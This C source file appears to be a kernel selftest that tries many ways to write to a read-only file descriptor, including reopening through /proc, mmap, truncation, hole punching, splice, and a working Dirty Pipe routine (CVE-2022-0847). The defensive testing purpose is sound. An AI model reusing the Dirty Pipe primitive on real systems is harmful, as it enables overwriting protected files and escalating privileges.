// SPDX-License-Identifier: GPL-2.0-only
/* Writing by the file behind the fd, without any mapping of the fd as it is. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

#include "../../../kernel/dmabuf_derive/uapi/dmabuf_derive.h"
#include "attack.h"

static const char evil[16] = "ATTACKEDATTACKED";

/* By all that a file can be written with. 0 if one went through. */
static int write_fd(int fd, const struct target *t)
{
	volatile uint8_t *map;

	if (pwrite(fd, evil, sizeof(evil), t->offset) == sizeof(evil))
		return 0;
	map = mmap(NULL, t->size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, t->offset);
	if (map == MAP_FAILED)
		return -errno;
	map[0] = 0xa5;
	return 0;
}

static int reopen(const struct target *t, const char *pattern)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), pattern, t->fd);
	fd = open(path, O_RDWR | O_CLOEXEC);
	return fd < 0 ? -errno : write_fd(fd, t);
}

static int reopen_proc(const struct target *t)
{
	return reopen(t, "/proc/self/fd/%d");
}

static int reopen_dev_fd(const struct target *t)
{
	return reopen(t, "/dev/fd/%d");
}

static int pwrite_fd(const struct target *t)
{
	return pwrite(t->fd, evil, sizeof(evil), t->offset) < 0 ? -errno : 0;
}

static int pwritev2_fd(const struct target *t)
{
	struct iovec vec = { (void *)evil, sizeof(evil) };

	return pwritev2(t->fd, &vec, 1, t->offset, RWF_DSYNC) < 0 ? -errno : 0;
}

static int truncate_fd(const struct target *t)
{
	return ftruncate(t->fd, 0) ? -errno : 0;
}

static int grow_fd(const struct target *t)
{
	return ftruncate(t->fd, 1LL << 40) ? -errno : 0;
}

static int punch_hole(const struct target *t)
{
	return fallocate(t->fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, t->offset, 4096) ? -errno : 0;
}

static int zero_range(const struct target *t)
{
	return fallocate(t->fd, FALLOC_FL_ZERO_RANGE, t->offset, 4096) ? -errno : 0;
}

/* F_SETFL has no say over the access mode. */
static int setfl(const struct target *t)
{
	if (fcntl(t->fd, F_SETFL, O_RDWR | O_APPEND))
		return -errno;
	return write_fd(t->fd, t);
}

/* No byte changes, but the producer could not write any more. */
static int add_seals(const struct target *t)
{
	return fcntl(t->fd, F_ADD_SEALS, F_SEAL_WRITE) ? -errno : 0;
}

static int copy_range(const struct target *t)
{
	loff_t from = 0, to = t->offset;
	int in = memfd_create("evil", MFD_CLOEXEC);

	if (in < 0 || write(in, evil, sizeof(evil)) < 0)
		return -errno;
	return copy_file_range(in, &from, t->fd, &to, sizeof(evil), 0) < 0 ? -errno : 0;
}

static int splice_into(const struct target *t)
{
	loff_t to = t->offset;
	int pipefd[2];

	if (pipe(pipefd) || write(pipefd[1], evil, sizeof(evil)) < 0)
		return -errno;
	return splice(pipefd[0], NULL, t->fd, &to, sizeof(evil), 0) < 0 ? -errno : 0;
}

/* CVE-2022-0847: a page of the file in a pipe, that a write is merged into. */
static int splice_and_write(const struct target *t)
{
	loff_t from = t->offset;
	char drain[4096];
	int pipefd[2];

	if (pipe(pipefd))
		return -errno;
	/* All slots of the pipe get the flag that a write may be merged, and are emptied. */
	for (int i = 0; i < 16; i++)
		if (write(pipefd[1], drain, sizeof(drain)) < 0)
			return -errno;
	for (int i = 0; i < 16; i++)
		if (read(pipefd[0], drain, sizeof(drain)) < 0)
			return -errno;
	if (splice(t->fd, &from, pipefd[1], NULL, 1, 0) < 0)
		return -errno;
	return write(pipefd[1], evil, sizeof(evil)) < 0 ? -errno : 0;
}

static int derive(const struct target *t, uint32_t flags)
{
	struct dmabuf_derive request = { .fd = t->fd, .flags = flags, .alias = -1 };
	int module = open("/dev/dmabuf-derive", O_RDWR | O_CLOEXEC);

	if (module < 0)
		return NOT_APPLICABLE;
	if (ioctl(module, DMABUF_DERIVE_IOC_DERIVE, &request))
		return -errno;
	return write_fd(request.alias, t);
}

static int derive_rdwr(const struct target *t)
{
	return derive(t, O_RDWR);
}

static int derive_wronly(const struct target *t)
{
	return derive(t, O_WRONLY);
}

static int derive_mode_3(const struct target *t)
{
	return derive(t, 3);
}

/* The ioctl of the rejected kernel series. */
static int kernel_derive(const struct target *t)
{
	struct { uint32_t flags; int32_t fd; } request = { O_RDWR, -1 };

	if (ioctl(t->fd, _IOWR('b', 4, request), &request))
		return -errno;
	return write_fd(request.fd, t);
}

const struct attack file_attacks[] = {
	{ "reopen_proc", reopen_proc, 0 },
	{ "reopen_dev_fd", reopen_dev_fd, 0 },
	{ "pwrite", pwrite_fd, 0 },
	{ "pwritev2", pwritev2_fd, 0 },
	{ "ftruncate", truncate_fd, 1 },
	{ "ftruncate_grow", grow_fd, 1 },
	{ "punch_hole", punch_hole, 0 },
	{ "zero_range", zero_range, 0 },
	{ "f_setfl", setfl, 0 },
	{ "f_add_seals", add_seals, 1 },
	{ "copy_file_range", copy_range, 0 },
	{ "splice_into", splice_into, 0 },
	{ "splice_and_write", splice_and_write, 0 },
	{ "derive_rdwr", derive_rdwr, 0 },
	{ "derive_wronly", derive_wronly, 0 },
	{ "derive_mode_3", derive_mode_3, 0 },
	{ "kernel_derive_ioctl", kernel_derive, 0 },
	{ 0 }
};
